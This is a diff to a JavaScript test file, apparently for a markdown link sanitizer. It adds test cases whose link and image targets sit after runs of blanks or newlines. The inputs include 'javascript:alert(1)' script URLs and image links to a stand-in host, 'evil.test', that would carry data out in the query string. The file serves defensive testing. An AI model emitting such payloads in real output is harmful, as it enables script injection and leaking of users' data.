@@ -23,6 +23,19 @@ function family(name, texts, { namesHost = false } = {}) {
   }
 }
 
+// ---------------------------------------------------------------- apart from the label
+family('a target after blanks', [
+  ...[' ', '\t', '  ', ' '.repeat(100), ' '.repeat(2000)].flatMap((blanks) => [
+    `[a]${blanks}(javascript:alert(1))`,
+    `![a]${blanks}(http://evil.test/?d=S)`,
+    `[![a]${blanks}(http://evil.test/?d=S)](https://ok.test)`,
+  ]),
+  '[d]:\n\njavascript:alert(1)\n\n[d]',
+  '[d]:\n\n\n javascript:alert(1)\n\n[d]',
+  '![d]\n\n[d]:\n\nhttp://evil.test/?d=S',
+  '[d]: \r\n \r\njavascript:alert(1)\n\n[d]',
+]);
+
 // ---------------------------------------------------------------- targets
 const OBFUSCATED = [
   'javascript:alert(1)',
